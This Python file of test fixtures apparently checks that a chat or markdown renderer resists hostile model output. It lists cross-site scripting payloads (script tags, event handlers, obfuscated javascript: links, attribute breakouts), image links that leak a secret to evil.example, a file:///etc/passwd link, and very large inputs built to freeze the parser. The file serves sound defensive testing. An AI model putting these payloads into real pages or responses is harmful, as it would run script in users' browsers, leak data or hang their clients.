"""Texts that a model might write to harm or to freeze the page that shows them."""

HOSTILE = {
    "script": "<script>window.harmed = 1</script>\n\n<img src=x onerror='window.harmed = 2'>\n\n"
    "<svg onload='window.harmed = 3'><iframe srcdoc='<script>parent.harmed = 4</script>'></iframe>\n\n"
    "<style>body { display: none }</style><base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "images": "![secret](https://evil.example/?q=secret)\n\n![x](data:image/svg+xml,<svg/onload=alert(1)>)\n\n"
    "[![nested](https://evil.example/a.png)](https://evil.example/b)\n\n![][ref]\n\n[ref]: https://evil.example/c.png",
    "links": "[a](javascript:window.harmed=5) [b](JaVaScRiPt:window.harmed=6) [c](java\tscript:alert(1)) "
    "[d](<java\nscript:alert(1)>) [e](data:text/html,<script>alert(1)</script>) [f](vbscript:x) [g](file:///etc/passwd) "
    "[h](//evil.example) [i](/v1/models) [j](&#106;avascript:alert(1)) [k](\x01javascript:alert(1)) "
    "<javascript:alert(1)> [l](blob:https://evil.example/x) [safe](https://example.org/a_(b)) [mail](mailto:a@example.org)",
    "attributes": '[x](https://example.org/"onmouseover="window.harmed=7) [y](https://example.org "t\\" onclick=\\"alert(1)")\n\n'
    '```js" onload="window.harmed=8\ncode\n```\n\n```<img src=x onerror=alert(1)>\nmore\n```',
    "unclosed": "**bold *and ~~more `code [link](https://exa\n\n> quote\n> - list\n>   1. deep\n\n| a | b\n|--|\n\n<div <p ![ [ ( \\",
    "prototype": "__proto__ constructor\n\n```__proto__\nx\n```\n\n[__proto__](constructor)",
    "controls": "\u202egnp.exe\u202c \u0000 \ufffe \ud83d\u200b \u2028 \u2029".encode("utf-8", "replace").decode()
    + " end",
}

LARGE = {
    "quotes": ">" * 10_000 + " deep",
    "quote-lines": "".join(">" * depth + " deep\n" for depth in range(1, 300)),
    "brackets": "[" * 10_000 + "x" + "]" * 10_000,
    "brackets-links": "[" * 5_000 + "x" + "](https://example.org)" * 5_000,
    "open-links": "[a](" * 20_000,
    "images-open": "![" * 20_000,
    "parentheses": "[a](" + "(" * 20_000,
    "stars": "*" * 100_000,
    "star-words": "*a **b " * 20_000,
    "star-pairs": "*a_ " * 20_000,
    "underscores": "_" * 9_000 + "a" + "_" * 9_000,
    "backticks": "`" * 1_000_000,
    "backtick-runs": " ".join("`" * (index % 300 + 1) for index in range(6_000)),
    "lists": "".join("  " * depth + "- x\n" for depth in range(400)),
    "list-markers": "- " * 20_000,
    "tables": "|" * 20_000 + "\n" + "|-" * 20_000 + "\n",
    "delimiter": "| a |\n|" + " " * 50_000 + "x",
    "spaces": " " * 200_000 + "x",
    "blank-lines": "a\n" + "\n" * 100_000 + "b",
    "hashes": "# " + "# " * 50_000,
    "rule": "- " * 30_000 + "x",
    "fence-info": "```" + "a" * 100_000 + "\ncode",
    "code-line": "```\n" + "x" * 1_000_000 + "\n```",
    "code-lines": "```\n" + "let value = compute(1, 2, 3)\n" * 30_000 + "```",
    "angle": "<" * 50_000,
    "ampersands": "&" * 50_000 + "&amp" * 10_000,
    "urls": "https://" * 20_000,
    "backslashes": "\\" * 100_000,
    "tildes": "~~" * 50_000,
    "word": "a" * 1_000_000,
}
